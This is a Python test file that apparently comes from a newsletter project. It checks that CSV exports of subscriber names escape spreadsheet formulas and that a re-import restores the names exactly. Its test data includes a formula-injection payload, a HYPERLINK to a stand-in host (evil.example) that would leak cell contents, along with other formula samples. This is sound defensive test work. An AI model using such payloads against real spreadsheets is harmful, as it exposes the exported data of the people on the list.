"""Issue 27 item 7: a reader's name cannot become a formula in the operator's spreadsheet.

A reader sets their name through the API (``PUT /api/subscription/{token}``) to
``=HYPERLINK(...)``; ``newsletter subscribers export`` used to write it as it is, and a
spreadsheet opening the file ran it. Every cell starting with ``= + - @`` (or tab, CR) is now
written with a leading ``'``, and ``subscribers import`` of the export gives back the names as
they were stored: a round trip changes nothing, and exporting again gives the same file.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient

from newsletter.config import Config, load_config
from newsletter.store import Store
from newsletter.subscribe import Subscriptions
from newsletter.subscriber_lists.export import (
    FORMULA_START,
    from_spreadsheet_cell,
    spreadsheet_cell,
)
from tests.conftest import base_config, write_config
from tests.security.helpers import newsletter

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your digest")'
NAMES = {
    "mallory@example.net": ATTACK,
    "plus@example.net": "+SUM(1,2)",
    "minus@example.net": "-2+3",
    "at@example.net": "@SUM(A1:A9)",
    "quoted@example.net": "'=already quoted",
    "dutch@example.net": "'t Hooft",
    "ada@example.net": "Ada Lovelace",
}


def set_name_through_the_api(
    client: TestClient, service: Subscriptions, email: str, name: str
) -> None:
    sub = service.store.get_subscriber(email)
    assert sub is not None
    token = service.links(sub).manage.rsplit("/", 1)[1]
    response = client.put(
        f"/api/subscription/{token}", json={"topics": ["gpu-kernels"], "name": name}
    )
    assert response.status_code == 200, response.text
    assert response.json()["name"] == name


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_an_exported_name_is_never_a_formula_and_imports_back_as_it_was(
    client: TestClient, service: Subscriptions, web_config: Config, tmp_path: Path
) -> None:
    for email in NAMES:
        result = newsletter(web_config, "subscribers", "add", email, "--topic", "gpu-kernels")
        assert result.exit_code == 0, result.output
    for email, name in NAMES.items():
        set_name_through_the_api(client, service, email, name)

    exported = tmp_path / "export.csv"
    result = newsletter(web_config, "subscribers", "export", "--out", str(exported))
    assert result.exit_code == 0, result.output
    rows = cells(exported.read_text(encoding="utf-8"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a formula in the export: {cell!r}"
    by_email = {row[0]: row[1] for row in rows[1:]}
    assert by_email["mallory@example.net"] == "'" + ATTACK
    assert by_email["plus@example.net"] == "'+SUM(1,2)"
    assert by_email["minus@example.net"] == "'-2+3"
    assert by_email["at@example.net"] == "'@SUM(A1:A9)"
    assert by_email["quoted@example.net"] == "''=already quoted"  # one more quote, not lost
    assert by_email["dutch@example.net"] == "'t Hooft"  # no formula: written as it is
    assert by_email["ada@example.net"] == "Ada Lovelace"

    # The project's own import reads the export back to the names as stored.
    other = tmp_path / "other"
    other.mkdir()
    data = base_config(f"sqlite:///{other / 'other.db'}")
    data["web"] = {"secret_key": "a-test-secret-that-signs-links-0123456789"}
    config = load_config(write_config(other, data))
    store = Store(config.database_url)
    try:
        store.upgrade()
        result = newsletter(config, "subscribers", "import", str(exported))
        assert result.exit_code == 0, result.output
        for email, name in NAMES.items():
            sub = store.get_subscriber(email)
            assert sub is not None and sub.name == name, (email, sub)
        # ... and exporting again gives the same file: no `''=` growing with each round trip.
        again = other / "again.csv"
        assert newsletter(config, "subscribers", "export", "--out", str(again)).exit_code == 0
        assert same_but_times(rows, cells(again.read_text(encoding="utf-8")))
    finally:
        store.close()


def same_but_times(a: list[list[str]], b: list[list[str]]) -> bool:
    """Rows equal except ``created``/``confirmed`` (the import stamps its own time)."""
    keep = [i for i, h in enumerate(a[0]) if h not in ("created", "confirmed")]
    return [[r[i] for i in keep] for r in a] == [[r[i] for i in keep] for r in b]


def test_the_escape_is_undone_exactly_for_any_text() -> None:
    for value in ("", "'", "''", "=1", "'=1", "''=1", "@x", "'t Hooft", "a=b", "-", "\t=1", "x"):
        written = spreadsheet_cell(value)
        assert isinstance(written, str) and not written.startswith(FORMULA_START)
        assert from_spreadsheet_cell(written) == value
    assert spreadsheet_cell(8) == 8  # send_hour
